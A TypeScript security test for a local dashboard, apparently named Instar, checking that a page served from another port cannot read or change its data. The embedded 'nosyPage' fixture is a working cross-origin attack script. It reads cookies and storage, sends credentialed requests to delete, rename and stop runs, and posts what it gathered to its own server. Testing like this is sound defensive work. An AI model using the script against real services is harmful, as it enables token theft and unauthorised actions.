/**
 * A machine that others use too: a server of theirs at another port, to which the same browser goes, is sent nothing with which it
 * could read or change what the dashboard protects.
 */
import assert from 'node:assert/strict';
import { createServer, type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { startUi } from '../../src/web/server.ts';
import { openChromium, withoutChromium } from '../support/chromium.ts';
import { listingOf, newFolder, writeRun } from './folders.ts';
import { ask } from './raw.ts';

interface Received {
  readonly url: string;
  readonly headers: IncomingHttpHeaders;
  readonly body: string;
}

/** A page that tells its server all that it can find out, and makes the browser ask the dashboard in each way that it can. */
const nosyPage = (
  dashboard: string,
): string => `<!doctype html><title>another</title><form method="post"></form><script type="module">
const told = { cookie: document.cookie, referrer: document.referrer, name: window.name, opener: String(window.opener) };
told.storage = JSON.stringify([{ ...localStorage }, { ...sessionStorage }]);
const tried = async (what, act) => {
  try { told[what] = String(await act()); } catch (error) { told[what] = 'failed: ' + error.message; }
};
const there = ${JSON.stringify(dashboard)};
for (const path of ['api/list', 'api/token', 'api/run/log?run=one', ''])
  for (const mode of ['cors', 'no-cors'])
    await tried(mode + ' ' + path, async () => (await fetch(there + path, { mode, credentials: 'include' })).text());
for (const mode of ['cors', 'no-cors'])
  for (const [path, body] of [['delete', '{"name":"one","sure":true}'], ['rename', '{"name":"theirs"}']])
    await tried(mode + path, async () =>
      (await fetch(there + 'api/run/' + path + '?run=one', { method: 'POST', mode, credentials: 'include', body })).text());
await tried('frame', () => new Promise((resolve, reject) => {
  const frame = Object.assign(document.createElement('iframe'), { src: there });
  frame.onload = () => { try { resolve(frame.contentWindow.location.href + JSON.stringify({ ...frame.contentWindow.localStorage })); } catch (error) { reject(error); } };
  document.body.append(frame);
}));
await tried('window', async () => {
  const opened = window.open(there);
  await new Promise((resolve) => setTimeout(resolve, 500));
  const found = opened.location.href + JSON.stringify({ ...opened.localStorage });
  opened.close();
  return found;
});
await tried('worker', () => navigator.serviceWorker.getRegistrations().then((all) => all.length));
await fetch('/told', { method: 'POST', body: JSON.stringify(told), credentials: 'include' });
Object.assign(document.forms[0], { action: there + 'api/run/stop?run=one' }).submit();
</script>`;

async function openNosy(dashboard: string) {
  const received: Received[] = [];
  const server = createServer((request, response) => {
    let body = '';
    request.setEncoding('utf8').on('data', (text: string) => (body += text));
    request.on('end', () => {
      received.push({ url: request.url ?? '', headers: request.headers, body });
      response.setHeader('Content-Type', 'text/html').end(nosyPage(dashboard));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { address: `http://127.0.0.1:${port}/`, received, close: () => server.close() };
}

const changes: readonly (readonly [string, unknown])[] = [
  ['search', { data: 'mnist', preset: 'quick', name: 'theirs' }],
  ['plan', { data: 'mnist', preset: 'quick' }],
  ['run/stop?run=one', {}],
  ['run/resume?run=one', {}],
  ['run/rename?run=one', { name: 'theirs' }],
  ['run/delete?run=one', { name: 'one', sure: true }],
];
const reads = ['list', 'run?run=one', 'run/log?run=one', 'run/events?run=one', 'run/model?run=one&candidate=final'].concat([
  'run/images?run=one&part=test',
  'run/pixels?run=one&part=test&from=0&count=1',
  'study?study=x',
  'choices',
  'token',
]);

/** What is sent anew for each connection. */
const ofConnection = new Set(['host', 'connection', 'content-length', 'origin', 'accept-encoding', 'transfer-encoding']);

describe('a server at another port', { skip: withoutChromium() }, () => {
  let browser: Browser;
  before(async () => {
    browser = await openChromium();
  });
  after(() => browser.close());

  for (const [host, isReadable] of [
    ['127.0.0.1', true],
    ['0.0.0.0', false],
  ] as const)
    test(`is sent nothing that lets it ${isReadable ? 'change' : 'read or change'} anything: ${host}`, async (t) => {
      const folder = newFolder();
      writeRun(join(folder, 'one'));
      const ui = await startUi({ folder, port: 0, host, data: null, program: ['false'] });
      t.after(() => ui.close());
      const dashboard = `http://127.0.0.1:${ui.port}/`;
      const nosy = await openNosy(dashboard);
      t.after(() => nosy.close());
      const context = await browser.newContext();
      t.after(() => context.close());
      const page = await context.newPage();
      await page.goto(ui.address);
      const isTheirs = async (opened: Page): Promise<void> => {
        await opened.getByRole('button', { name: 'Delete one' }).waitFor();
      };
      await isTheirs(page);
      const asItWas = listingOf(folder);

      // Typed into the same tab, and opened in another one.
      for (const at of [page, await context.newPage()]) {
        await at.goto(nosy.address);
        await at.waitForURL(`${dashboard}api/run/stop?run=one`);
      }
      const told = nosy.received.filter(({ url }) => url === '/told');
      assert.equal(told.length, 2);
      assert.ok(!JSON.stringify(nosy.received).includes(ui.token));
      await page.goto(dashboard);
      await isTheirs(page);

      // Whatever it was sent, as it was sent, and each word of it where a token may stand.
      const words = new Set(nosy.received.flatMap((each) => JSON.stringify(each).match(/[\w-]{16,}/g) ?? []));
      const asSent = nosy.received.map(({ headers }) =>
        Object.entries(headers).flatMap(([name, value]) =>
          ofConnection.has(name) || name.startsWith('sec-fetch-') ? [] : [`${name}: ${[value].flat().join(', ')}`],
        ),
      );
      const asToken = [...words].map((word) => [
        `Instar-Token: ${word}`,
        `Authorization: Bearer ${word}`,
        `Cookie: instar-${ui.port}=${word}`,
      ]);
      for (const headers of [...asSent, ...asToken]) {
        const own = [`Host: 127.0.0.1:${ui.port}`, `Origin: http://127.0.0.1:${ui.port}`, ...headers];
        for (const [path, form] of changes) {
          const body = JSON.stringify(form);
          const more = ['Content-Type: application/json', `Content-Length: ${body.length}`];
          const request = { port: ui.port, method: 'POST', target: `/api/${path}`, body };
          assert.equal((await ask({ ...request, headers: [...own, ...more] })).status, 401, `${path}: ${headers.join('; ')}`);
        }
        if (isReadable) continue;
        for (const path of reads)
          assert.equal(
            (await ask({ port: ui.port, target: `/api/${path}`, headers: own })).status,
            401,
            `${path}: ${headers.join('; ')}`,
          );
      }
      assert.equal(listingOf(folder), asItWas);
    });
});
